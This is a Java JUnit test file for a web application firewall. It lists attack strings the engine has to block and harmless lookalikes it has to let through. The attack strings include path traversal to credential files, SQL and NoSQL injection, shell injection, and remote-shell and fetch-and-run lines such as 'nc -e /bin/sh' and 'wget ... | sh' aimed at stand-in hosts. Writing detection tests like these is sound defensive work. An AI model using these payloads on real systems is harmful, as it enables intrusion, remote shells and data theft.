package dev.aegis.waf;

import dev.aegis.config.WafPolicy.WafMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static dev.aegis.waf.WafEngineTest.BROWSER;
import static dev.aegis.waf.WafEngineTest.ENGINE;
import static dev.aegis.waf.WafEngineTest.get;
import static dev.aegis.waf.WafEngineTest.policy;
import static dev.aegis.waf.WafEngineTest.post;
import static dev.aegis.waf.WafEngineTest.withHeader;
import static org.assertj.core.api.Assertions.assertThat;

/** One attack variant (written here, not taken from the corpus) and benign lookalikes per rule class. */
class WafAttackClassesTest {

    static WafDecision request(String method, String contentType, String body) {
        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
        h.add(Map.entry("Content-Type", contentType));
        return ENGINE.inspect(new InspectionInput(method, "/api", h, body.getBytes(StandardCharsets.UTF_8), false),
                policy(WafMode.BLOCK, 1));
    }

    // ---- obfuscated traversal: exotic encodings of the separator, a sensitive file behind them
    @ParameterizedTest
    @ValueSource(strings = {"/?doc=..0x5c..0x5c..0x5cwindows0x5cwin.ini", "/?doc=0x2e0x2e0x2fetc0x2fshadow",
        "/?doc=%c0%2e%c0%2e%c0%afetc%c0%afgroup", "/?doc=%uff0e%uff0e%u2216windows%u2216system32%u2216cmd.exe"})
    void obfuscatedTraversal(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?doc=0x2e0x2f", "/?color=0x2f2f2f&w=..", "/?q=caf%C3%A9+etc+issue+tracker"})
    void obfuscatedTraversalLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    // ---- NoSQL operators spliced into a quoted value
    @ParameterizedTest
    @ValueSource(strings = {"/?user=%22%2C+%24nor%3A+%5B%7B%7D%5D", "/?user=x%27%2C%24ne%3A+1", "/?q=%24and%3A%5B%7B%7D%5D"})
    void nosqlOperatorSplice(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?price=%24100%2C+or+best+offer", "/?note=costs+%24or+more%2C+%27maybe%27"})
    void nosqlLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?x=1%3Bvar+t%3DDate.now()%3Bdo%7Bn%3DDate.now()%7Dwhile(n-t%3C5000)",
        "/?x=while(now-start%3C20000)%7B%7D"})
    void jsBusyWait(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    // ---- Windows batch control flow
    @ParameterizedTest
    @ValueSource(strings = {"/?c=for+%2Fl+%25x+in+(1%2C1%2C99)+do+ping+host", "/?c=%26+for+%25f+in+(*.ini)+do+type+%25f",
        "/?c=if+exist+c%3A%5Cboot.ini+type+c%3A%5Cboot.ini", "/?c=IF+NOT+DEFINED+HOME+set+HOME%3Dx",
        "/?c=if+%22%25OS%25%22%3D%3D%22Windows_NT%22+goto+nt", "/?c=if+%2Fi+abc%3D%3Dabc+del+x"})
    void windowsBatch(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?q=for+all+of+us+in+the+city", "/?q=if+it+exists+then+ok", "/?q=what+if+x+equals+y",
        "/?q=for+100%25+in+(cash)", "/?q=if+defined+as+above"})
    void windowsBatchLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    // ---- fork bomb, command prefixes, commands with options, new command words
    @ParameterizedTest
    @ValueSource(strings = {"/?c=bomb()%7B+bomb%7Cbomb%26+%7D%3Bbomb", "/?c=sudo+netstat+-an", "/?c=x%3B+nohup+socat+tcp:1.2.3.4:9+exec:sh",
        "/?c=time+whoami", "/?c=%3Bansible-vault+view+--vault-id+dev+secrets.yml", "/?c=%3Bknife+node+list+-F+json",
        "/?c=iwr+-uri+http://evil.example/p.ps1", "/?c=%7Cnetsh+-c+interface+dump"})
    void commandClasses(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?q=time+to+go", "/?q=sudo+make+me+a+sandwich", "/?q=perf+tuning+guide", "/?q=ansible+tutorial",
        "/?q=command+and+control", "/?q=env+friendly+packaging"})
    void commandLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    // ---- commands and sensitive files in User-Agent / Referer
    @ParameterizedTest
    @ValueSource(strings = {"wget -qO- http://203.0.113.7/x | sh", "() { :;}; /usr/bin/id", "python3 -c 'import os;os.system(\"id\")'"})
    void commandInUserAgent(String ua) {
        assertThat(withHeader("User-Agent", ua).blocked()).as(ua).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/etc/group", "nc -e /bin/sh 198.51.100.4 4444"})
    void commandOrFileInReferer(String ref) {
        assertThat(withHeader("Referer", ref).blocked()).as(ref).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://www.example.org/etc/etcetera-help", "https://shop.example.com/cat/dogs?sort=asc",
        "curl/8.5.0", "Wget/1.21.4", "python-requests/2.31.0"})
    void benignRefererAndAgents(String v) {
        assertThat(withHeader("Referer", v).blocked()).as(v).isFalse();
        assertThat(withHeader("User-Agent", v).blocked()).as(v).isFalse();
    }

    // ---- GET with an XML/JSON document is only a weak signal; with a form body it stays critical
    @ParameterizedTest
    @ValueSource(strings = {"<?xml version=\"1.0\"?><Query><Term>shoes</Term></Query>", "{\"query\":{\"match\":{\"title\":\"shoes\"}}}"})
    void getWithStructuredBodyPasses(String body) {
        String ct = body.startsWith("{") ? "application/json" : "application/xml";
        assertThat(request("GET", ct, body).blocked()).as(body).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=b"})
    void getWithFormBodyBlocks(String body) {
        assertThat(request("GET", "application/x-www-form-urlencoded", body).blocked()).isTrue();
    }

    static WafDecision xml(String body) {
        return post("application/xml", body);
    }

    static WafDecision getPl2(String uri) {
        return ENGINE.inspect(new InspectionInput("GET", uri, BROWSER, new byte[0], false), policy(WafMode.BLOCK, 2));
    }

    // ---- SQL fragments: function calls, boolean chains, stacked statements, DB procedures, JSON operators, aliases
    @ParameterizedTest
    @ValueSource(strings = {"/?id=substring_index(", "/?id=ascii(mid(", "/?id=1+and+ord(", "/?sort=ltrim%2F**%2F(",
        "/?id=x+and+flag!%3D%27", "/?id=%26%26(k%3D%3D%3D", "/?id=%3Bdelete+from+sessions", "/?id=%3Bset+@@sql_mode",
        "/?id=1%3Bexec+master..xp_servicecontrol", "/?q=%27%5B1%5D%27%3A%3Ajsonb+%40%3E+%27%5B1%5D%27",
        "/?q=)+as+total_sum+from"})
    void sqlFragmentsAtPl2(String uri) {
        assertThat(getPl2(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?q=turn+left+(north)+at+the+church", "/?q=Opening+Time+(weekdays)+9-5",
        "/?q=this+and+that", "/?q=rock+%26+roll+or+jazz", "/?q=delete+from+my+account+please",
        "/?q=Count+Basie+and+his+orchestra", "/?q=as+seen+from+space"})
    void sqlLookalikesAtPl2(String uri) {
        assertThat(getPl2(uri).blocked()).as(uri).isFalse();
    }

    // ---- SQL keywords separated by slashes or colons instead of blanks (MySQL reads `/` as division, `:` labels)
    @ParameterizedTest
    @ValueSource(strings = {"/?q=select/1/from/users", "/?q=select:password:from:users", "/?t=a/sysobjects",
        "/?t=x/information_schema.tables"})
    void sqlKeywordsJoinedBySlashesOrColons(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?next=/docs/guide/select-a-plan", "/?at=2024-01-01T10:30:45", "/?ref=urn:isbn:0451450523",
        "/?p=reports/2024/from-users"})
    void slashAndColonLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    // ---- Java gadget classes and serialized-object magic in cookie names; Perl interpolation; JS constant loops
    @ParameterizedTest
    @ValueSource(strings = {"org.apache.commons.collections.functors.InstantiateTransformer=1", "javax.naming.InitialContext=1",
        "rO0ABXNyABFqYXZh=1"})
    void javaInCookieNames(String cookie) {
        assertThat(withHeader("Cookie", cookie).blocked()).as(cookie).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?t=@%7B%5B+qx(id)+%5D%7D", "/?e=while(!0)%3B", "/?e=while(-Infinity)%7B%7D",
        "/?x=_%24%24ND_FUNC%24%24_function()%7Breturn+1%7D", "/?u=localhost:8080/admin", "/?u=host.docker.internal/api",
        "/?u=http://trusted.example/:x@attacker.example/", "/?u=http://%5B2001:db8::1%5D/shell.txt",
        "/?f=0x2e0x2e0x2fconfig"})
    void genericInjectionClasses(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?e=while(!true)%3B", "/?u=localhost", "/?email=a@b.example", "/?u=http://user@example.com/x",
        "/?color=0x2e2e2e", "/?t=%7B%5Bitem%5D%7D"})
    void genericInjectionLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"shell.php7", "upload/x.phtml..", "index.jsp", "sess_0123456789abcdef"})
    void uploadNameHeaders(String name) {
        assertThat(withHeader("X-File-Name", name).blocked()).as(name).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"holiday.jpg", "report.php.pdf.txt", "session_notes.txt"})
    void uploadNameHeaderLookalikes(String name) {
        assertThat(withHeader("X-File-Name", name).blocked()).as(name).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/.vscode/sftp.json", "/app/.terraform/terraform.tfstate"})
    void hiddenDirectoriesAtPl2(String uri) {
        assertThat(getPl2(uri).blocked()).as(uri).isTrue();
        assertThat(getPl2("/.well-known/security.txt").blocked()).isFalse();
        assertThat(getPl2("/docs/v1.2/index.html").blocked()).isFalse();
    }

    // ---- gotestwaf placements: path, base64, JSON; LDAP extensible match; GraphQL; VBScript; XML schema fetch; UTF-7; OAST
    @ParameterizedTest
    @ValueSource(strings = {"/%22%2C+%24where%3A+%5B%7B%7D%5D", "/?f=KHVzZXJBY2NvdW50Q29udHJvbDoxLjIuODQwLjExMzU1Ni4xLjQuODAzOj0yKQ",
        "/?f=cn:1.3.6.1.4.1.1466.109.114.2:=admin", "/?query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
        "/?c=On+Error+Resume+Next%3Aset+o%3DServer.CreateObject(%22WScript.Shell%22)", "/?u=x.k3j2h.oastify.com"})
    void placementsAndProtocols(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?time=12:30:45", "/?q=schema+design", "/?v=1.2.3.4", "/?q=error+handling+next+steps", "/?host=burp.example.com"})
    void placementLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<?xml version=\"1.0\"?><xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\"><xsd:import schemaLocation=\"http://10.0.0.5/a.xsd\"/></xsd:schema>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-a+AD4-x+ADw-/a+AD4-"})
    void xmlSchemaFetchAndUtf7(String body) {
        assertThat(xml(body).blocked()).as(body).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"><id>7</id></order>"})
    void benignXmlPasses(String body) {
        assertThat(xml(body).blocked()).as(body).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Fuzz Faster U Fool v1.5.0", "Mozilla/5.0 (compatible) http://abc123.burpcollaborator.net/"})
    void attackToolAgents(String ua) {
        assertThat(withHeader("User-Agent", ua).blocked()).as(ua).isTrue();
    }

    // ---- shell syntax classes: parameter expansion, process substitution, bracket globs, dot-commands, alias,
    //      variable-assembled commands, empty expansions spliced into words
    @ParameterizedTest
    @ValueSource(strings = {"/?p=%24%7BHOME%25%25%2F*%7D", "/?p=%3C(id)+", "/?p=%24%5B1%2B1%5D", "/?p=%24BASH+-c+id",
        "/?p=/sb[i]n/ifconfig", "/?p=/etc/sh[a]dow", "/?p=x%0A.output+/tmp/x.php", "/?p=alias+ll%3Drm",
        "/?p=x%3Dwh%3By%3Doami%3B%24x%24y", "/?p=%3Bwho%24%24ami", "/?p=%3Bcat%24z+/etc%24z/hosts"})
    void shellSyntax(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?p=price+%24100+or+%245", "/?p=array[0]", "/?p=/products/[id]/edit", "/?p=see+section+.tables+below",
        "/?p=a%3D1%3Bb%3D2", "/?p=US%24+and+EUR", "/?p=the+alias+of+bob"})
    void shellSyntaxLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?p=%7Bw,ho,ami%7D", "/?p=/e%7Bt,%7Dc/pass%7Bwd,%7D"})
    void braceExpansionAtPl2(String uri) {
        assertThat(getPl2(uri).blocked()).as(uri).isTrue();
    }

    // ---- restricted files: IIS-style overlong separators in the raw URI, credential dotfiles, kernel pseudo-files
    @ParameterizedTest
    @ValueSource(strings = {"/?doc=..%c1%af..%c1%afetc%c1%afgroup", "/?f=../../home/u/.pgpass", "/?f=/sys/kernel/debug",
        "/?f=C:/Windows/Panther/Unattend.xml", "/?f=~/.kube/config"})
    void restrictedFiles(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?q=.botox+clinic", "/?q=sys+class+notes", "/?f=report.netrcx", "/?q=the+kube+config+docs"})
    void restrictedFileLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?x=posix_getuid()", "/?x=get_loaded_extensions()", "/?x=imap_open(%27x%27", "/?x=bzopen(%24f"})
    void phpFunctionCalls(String uri) {
        assertThat(get(uri).blocked()).as(uri).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?q=unpack+(the+boxes)", "/?q=how+to+pack+for+a+trip", "/?q=virtual+tour+(360)"})
    void phpFunctionLookalikes(String uri) {
        assertThat(get(uri).blocked()).as(uri).isFalse();
    }

    // ---- mail command injection (936140): a header after a line break, or sendmail options after blanks
    @ParameterizedTest
    @ValueSource(strings = {"/?to=a%40b.c%0D%0Abcc%3A+victim%40example.com",
        "/?from=x+-f+root%40localhost+-oQ%2Ftmp%2F+-X+%2Fvar%2Fwww%2Fshell.php", "/?from=me%09-f%09x%09-c%09y%09"})
    void mailInjection(String uri) {
        WafDecision seen = ENGINE.inspect(new InspectionInput("GET", uri, BROWSER, null, false),
                policy(WafMode.DETECT, 1));
        assertThat(seen.matches()).as(uri).anySatisfy(m -> assertThat(m.ruleId()).isEqualTo(936140));
        String value = java.net.URLDecoder.decode(uri.substring(uri.indexOf('=') + 1), StandardCharsets.UTF_8);
        assertThat(Rules.noMailShape(new Value("ARGS:", "x", Value.ARG, value, new Transforms.Flags()))).as(uri)
                .isFalse();
    }

    /** Hyphenated words hold the rule's literals ({@code -f}, {@code -o}, {@code -c}) but not its shape. */
    @ParameterizedTest
    @ValueSource(strings = {"Drop off Mon-Fri only", "a co-owner of an e-commerce shop", "x-ray, re-order"})
    void mailLookalikesAreRuledOutBeforeTheRegex(String text) {
        assertThat(Rules.noMailShape(new Value("ARGS:", "x", Value.ARG, text, new Transforms.Flags()))).isTrue();
        assertThat(get("/?note=" + text.replace(' ', '+')).blocked()).isFalse();
    }
}
